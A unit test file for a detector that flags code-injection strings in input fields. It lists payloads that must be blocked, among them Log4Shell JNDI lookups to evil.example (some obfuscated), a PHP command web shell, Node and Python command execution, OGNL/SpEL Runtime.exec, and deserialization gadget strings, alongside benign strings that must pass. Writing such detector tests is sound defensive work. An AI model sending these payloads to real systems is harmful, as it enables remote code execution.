import { describe, expect, it } from 'vitest';
import { BLOCKING_CONFIDENCE } from '../../src/core/detector.ts';
import type { Field } from '../../src/core/field.ts';
import { injectionCode } from '../../src/detectors/injection-code.ts';
import { recognise } from '../support/field.ts';

type Row = [text: string, overrides: Partial<Field>];

const LOUD: Row[] = [
  ['${jndi:ldap://evil.example/a}', {}],
  ['${${lower:j}ndi:${lower:l}dap://evil.example/a}', {}],
  ['${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}', {}],
  ['${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/a}', {}],
  ["<?php system($_GET['c']); ?>", {}],
  ['<?php echo 1; ?>', {}],
  ["require('child_process').exec('id')", {}],
  ["process.mainModule.require('fs')", {}],
  ["__import__('os').system('id')", {}],
  ["%{(#a=@java.lang.Runtime@getRuntime()).exec('id')}", {}],
  ["T(java.lang.Runtime).getRuntime().exec('id')", {}],
  ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', {}],
  ['O:8:"stdClass":1:{s:1:"a";i:1;}', {}],
  ["!!python/object/apply:os.system ['id']", {}],
  ['AAEAAAD/////AQAAAAAAAAAMAgAAAA', {}],
  ['{"@type":"com.sun.rowset.JdbcRowSetImpl"}', {}],
  ['class.module.classLoader.resources', {}],
  ['_$$ND_FUNC$$_function(){}()', {}],
  ['${@print(md5(1))}', {}],
  ['print(7*7);exit;', {}],
  ['Thread.sleep(10000)', {}],
  ['response.write(9*9)', {}],
];

const QUIET: Row[] = [
  ['${name}', {}],
  ['${price} per item', {}],
  ['Hello ${user.firstName}', {}],
  ["const fs = await import('fs');", {}],
  ['require more time', {}],
  ['import os', {}],
  ['The runtime is long', {}],
  ['process.env.NODE_ENV', {}],
  ['system (the whole)', {}],
  ['eval period', {}],
  ['a:1:{b}', {}],
  ['O: 8 items', {}],
  ['C:\\Program Files', {}],
  ['rO0m', {}],
  ['ldap is a protocol', {}],
  ['https://example.com/php', {}],
  ['evaluate(x)', {}],
  ['class.name', {}],
  ["response.write('hello')", {}],
  ["require('node:os').hostname = function () { return 'a' }", {}],
  ['print(7*7)', {}],
  ['user ${@mention} (x)', {}],
];

describe('injection-code', () => {
  it.each(LOUD)('blocks %j', (text, overrides) => {
    expect(recognise(injectionCode, text, overrides)?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
  });
  it.each(QUIET)('does not block %j', (text, overrides) => {
    expect(recognise(injectionCode, text, overrides)?.confidence ?? 0).toBeLessThan(0.3);
  });
});
